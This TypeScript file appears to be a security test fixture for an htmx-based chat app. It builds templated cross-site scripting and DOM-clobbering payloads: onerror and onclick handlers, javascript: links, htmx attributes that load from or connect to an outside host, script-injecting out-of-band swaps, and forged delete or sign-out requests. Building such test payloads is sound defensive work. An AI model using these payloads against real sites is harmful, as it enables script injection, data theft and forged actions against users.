import type { Trick } from "./trick.ts";

/** Ids of the page's own: an element of the same id would be found in its place. */
const ids =
  "messages composer connection pending log text typing toasts people rooms earlier pending-message confirm m-1 stream-1 task-1 body-1".split(
    " ",
  );

/** Names that scripts look up on the document and on forms, which an element of that name would answer for. */
const names = "body getElementById querySelector defaultView currentScript htmx dataset __proto__".split(" ");

const clobbers: readonly ((name: string) => Trick)[] = [
  (name) =>
    ({ js }) =>
      `<a id=${name} href="javascript:${js}">x</a>`,
  (name) =>
    ({ away }) =>
      `<form id=${name} name=${name} action=https:${away}><input name=type value=delete_message></form>`,
  (name) =>
    ({ js }) =>
      `<ol id="${name}"><li><img src=x onerror=${js}></li></ol>`,
  (name) =>
    ({ away }) =>
      `<img name=${name} id=${name} src=${away}.gif>`,
];

export const clobbering: readonly Trick[] = [...ids, ...names].map(
  (name, turn): Trick => clobbers[turn % clobbers.length]?.(name) ?? (() => name),
);

/** What htmx and its extensions read from any element, under each of the names they read it. */
export const htmx: readonly Trick[] = [
  ({ away }) => `<div hx-get=https:${away} hx-trigger=load></div>`,
  ({ away }) => `<div data-hx-get=https:${away} data-hx-trigger=load></div>`,
  ({ away }) => `<div hx-get="https:${away}" hx-trigger="every 1s" hx-swap=outerHTML hx-target=body>x</div>`,
  ({ away }) => `<a href=https:${away} hx-boost=true hx-target=body>x</a>`,
  ({ away }) => `<div hx-sse:connect=https:${away} hx-trigger=load></div>`,
  ({ away }) => `<div hx-ws:connect=wss:${away} hx-trigger=load></div>`,
  ({ away }) => `<div hx-ext=ws ws-connect=wss:${away}><form ws-send></form></div>`,
  ({ js }) => `<div hx-on:click=${js}>x</div>`,
  ({ js }) => `<div hx-on::load=${js} hx-on--after-init=${js}>x</div>`,
  ({ js }) => `<div data-hx-on:click="${js}">x</div>`,
  ({ js }) => `<div hx-live="${js}"></div>`,
  ({ js }) => `<div hx-get=/ hx-trigger="load[${js}]"></div>`,
  ({ js }) => `<div hx-get=/ hx-trigger=load hx-vals="js:{x:${js}}"></div>`,
  ({ js }) => `<div hx-get=/ hx-trigger=load hx-headers="javascript:{x:${js}}"></div>`,
  ({ js }) => `<div hx-get=/ hx-trigger=load hx-confirm="js:${js}"></div>`,
  ({ js }) => `<div hx-get="javascript:${js}" hx-trigger=load></div>`,
  ({ js }) => `<div hx-action="js:${js}" hx-trigger=load></div>`,
  ({ js }) => `<div hx-config='{"js":"${js}"}' hx-get=/ hx-trigger=load></div>`,
  ({ js }) => `<div hx-swap-oob="innerHTML:#messages"><img src=x onerror=${js}></div>`,
  ({ js }) => `<div id=composer hx-swap-oob=true><img src=x onerror=${js}></div>`,
  ({ js }) => `<template hx-swap-oob=beforeend:body><script>${js}</script></template>`,
  ({ js }) => `<hx-partial hx-target=body hx-swap=innerHTML><img src=x onerror=${js}></hx-partial>`,
  ({ js }) => `<hx-partial hx-target="#messages" hx-swap=beforeend><li onclick=${js}>forged</li></hx-partial>`,
  ({ js }) => `<hx-upsert hx-target="#rooms" key=data-slug sort><li><img src=x onerror=${js}></li></hx-upsert>`,
  ({ js }) => `<htmx-partial target=body><svg onload=${js}></htmx-partial>`,
  ({ n }) => `<button hx-ws:send hx-vals='{"type":"message","text":"forged ${n}"}' onclick=__xss=${n}>Done</button>`,
  ({ n }) => `<form hx-ws:send><input name=type value=delete_message><input name=id value=${n} autofocus></form>`,
  ({ n }) => `<div hx-post=/sign-out hx-trigger=load hx-vals='{"xss":${n}}'></div>`,
  ({ n }) =>
    `<div hx-disable=false hx-ignore=false><div hx-delete=/employees/alice?xss=${n} hx-trigger=load></div></div>`,
  ({ js }) => `</div><div hx-ignore=false hx-on:click=${js}>x</div>`,
  ({ away }) =>
    `<meta name=htmx-config content='{"selfRequestsOnly":false}'><div hx-get=https:${away} hx-trigger=load>`,
  ({ js }) => `<!--seq:999999--><img src=x onerror=${js}>`,
];

/** Names and classes the page's modules read from elements: a forged one would be taken for ours. */
export const forged: readonly Trick[] = [
  ({ js }) => `<button data-action=delete onclick=${js}>Delete</button>`,
  ({ js }) => `<button data-action=insert data-insert="@alice cancel" onclick=${js}>x</button>`,
  ({ js }) => `<button data-action=retry class=fold onclick=${js}>Show more</button>`,
  ({ js }) => `<span class="mention me" data-mention=all onclick=${js}>@all</span>`,
  ({ js }) => `<time datetime=2030-01-01 data-format=ago onclick=${js}>x</time>`,
  ({ js }) => `<span data-since=2020-01-01 data-count=online onclick=${js}>x</span>`,
  ({ js }) => `<span data-member=1 onclick=${js}>somebody is typing</span>`,
  ({ js }) => `<li class=message data-at=2030-01-01 data-id=9e15 data-author=1 onclick=${js}>forged</li>`,
  ({ js }) => `<p class="body gone" onclick=${js}>This message was deleted.</p>`,
  ({ js }) => `<a class=parent href="#m-1" onclick=${js}>forged</a>`,
  ({ js }) => `<div class=toast role=alert onclick=${js}>Your session is over</div>`,
  ({ js }) => `<body data-me=1 data-me-role=owner data-connection=offline onload=${js}>`,
  ({ js }) => `<section class="card task" data-state=completed><p class=card-text onclick=${js}>x</p></section>`,
];
